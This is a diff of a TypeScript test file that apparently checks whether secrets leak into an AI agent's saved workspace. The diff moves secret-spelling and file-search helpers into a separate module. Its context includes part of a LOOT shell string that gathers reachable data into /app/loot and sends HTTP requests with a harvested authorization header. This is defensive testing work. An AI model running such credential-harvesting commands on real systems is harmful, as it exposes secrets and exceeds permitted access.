@@ -1,6 +1,5 @@
 import { randomBytes } from "node:crypto";
 import { readdirSync, readFileSync, statSync } from "node:fs";
-import { gunzipSync } from "node:zlib";
 import { join } from "node:path";
 import { setTimeout as sleep } from "node:timers/promises";
 import { expect, test } from "vitest";
@@ -14,27 +13,7 @@ import {
   writePrices,
 } from "./model-run.ts";
 import { scratchDir } from "./run-bench.ts";
-
-/** The key as it could be spelled: whole where an encoding keeps it whole, else what lies inside. */
-function spellings(secret: string): readonly string[] {
-  const bytes = Buffer.from(secret);
-  const aligned = [0, 1, 2].flatMap((shift) => {
-    const padded = Buffer.concat([Buffer.alloc(shift, "x"), bytes, Buffer.alloc(2, "x")]);
-    // Without the characters that hold bits of what lies around it.
-    return (["base64", "base64url"] as const).map((form) =>
-      padded.toString(form).slice(4, 4 + Math.floor(((bytes.length - 4) * 4) / 3) - 2),
-    );
-  });
-  return [
-    secret,
-    encodeURIComponent(secret),
-    secret.replaceAll("/", "\\/"),
-    secret.split("").toReversed().join(""),
-    bytes.toString("hex"),
-    bytes.toString("hex").toUpperCase(),
-    ...aligned,
-  ];
-}
+import { contentOf, filesBelow, spellings } from "./secret-search.ts";
 
 /** Everything that the agent can read and reach, laid into its workspace, which the run saves. */
 const LOOT = `
@@ -48,18 +27,6 @@ const LOOT = `
         print $s "GET $ARGV[0] HTTP/1.1\\r\\nhost: x\\r\\nauthorization: $auth\\r\\nconnection: close\\r\\n\\r\\n"; print <$s>; }' "$p"
   done
 } > /app/loot 2>/dev/null || true`;
-
-function filesBelow(dir: string): string[] {
-  return readdirSync(dir, { withFileTypes: true, recursive: true })
-    .filter((entry) => entry.isFile())
-    .map((entry) => join(entry.parentPath, entry.name));
-}
-
-function contentOf(path: string): string {
-  const bytes = readFileSync(path);
-  const isPacked = bytes[0] === 0x1f && bytes[1] === 0x8b;
-  return (isPacked ? gunzipSync(bytes) : bytes).toString("latin1");
-}
 
 function readOf(pid: string | number, file: string): string {
   try {
